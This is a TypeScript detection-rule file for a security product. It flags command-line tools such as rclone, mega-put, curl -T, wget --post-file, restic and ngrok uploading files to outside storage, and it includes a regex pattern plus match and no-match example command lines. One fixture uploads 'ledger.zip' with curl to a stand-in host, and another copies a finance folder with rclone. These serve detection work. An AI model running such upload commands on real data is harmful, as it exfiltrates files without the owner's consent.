import { defineBuiltinPolicy } from '../define-builtin-policy.ts';

/** Programs that copy whole folders to cloud storage, with their upload commands. */
const SENDING =
  '(^|[\\\\/\\s"])(rclone(\\.exe)?\\s[^|;]*\\b(copy|sync|move|copyto|moveto)\\b|mega-?put\\b|megatools\\s+put\\b|' +
  'curl(\\.exe)?\\s[^|;]*(\\s-T\\s|--upload-file)|wget(\\.exe)?\\s[^|;]*--post-file|' +
  'restic(\\.exe)?\\s[^|;]*\\bbackup\\b|ngrok(\\.exe)?\\s+(http|tcp)\\b)';

export const policy = defineBuiltinPolicy({
  key: 'copy-tool-to-outside',
  version: 1,
  name: 'Files sent with a transfer tool',
  description:
    'A command-line tool that copies files to internet storage was started on a device. It bypasses the browser, ' +
    'so no upload is recorded.',
  group: 'personal',
  reason: 'Tools such as rclone and scp move whole folders without a browser.',
  techniques: ['T1048', 'T1567.002'],
  needs: 'Endpoint agent or EDR with command lines',
  since: 1,
  severity: 'MEDIUM',
  title: 'Sent with a transfer tool',
  condition: {
    all: [
      { f: 'process.commandLine', op: 'matches~', v: SENDING },
      { f: 'outcome', op: 'ne', v: 'failure' },
    ],
  },
  groupBy: ['actor'],
  window: null,
  examples: {
    match: [
      { process: { commandLine: 'rclone copy C:\\Finance remote:backup --transfers 8' } },
      { process: { commandLine: '/usr/bin/curl -s -T ledger.zip https://drop.example/' } },
    ],
    noMatch: [
      { process: { commandLine: 'rclone listremotes' } },
      { process: { commandLine: 'curl https://example.com/a.tar.gz' } },
      { process: { commandLine: 'notepad rclone-copy.txt' } },
      {
        process: { commandLine: 'rclone sync /data remote:' },
        outcome: 'failure',
      },
    ],
  },
});
